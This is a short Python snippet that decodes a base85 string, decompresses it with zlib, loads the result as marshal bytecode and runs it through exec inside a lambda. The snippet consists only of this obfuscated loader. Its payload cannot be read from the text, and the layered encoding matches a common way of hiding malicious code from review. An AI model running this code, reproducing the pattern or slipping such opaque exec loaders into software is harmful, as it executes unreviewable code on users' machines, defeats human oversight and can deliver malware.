import marshal as m, zlib as z, base64 as b
(lambda a, c: a(c))(exec, m.loads(z.decompress(b.b85decode("c$`aSKmyEA`m-L8n9h*GkiwY55XHd6kjjw72vd~8v<%2z4d*igRRuF>GQR|I{HipPON(+8bc+=-N=gcft@QO%^inGla|?1(^)mCy5_2+B^m7$z6pAx6nQk%V7vEwlt}HG|&0Wdx8KnOgvrUEFFAkgB{FKt1RJ$T}umubZ#p*!f12ZEd;|&JR1~3FMm|8e5aG6|WFulTHdI5%tSb=H*cfT<*"))))
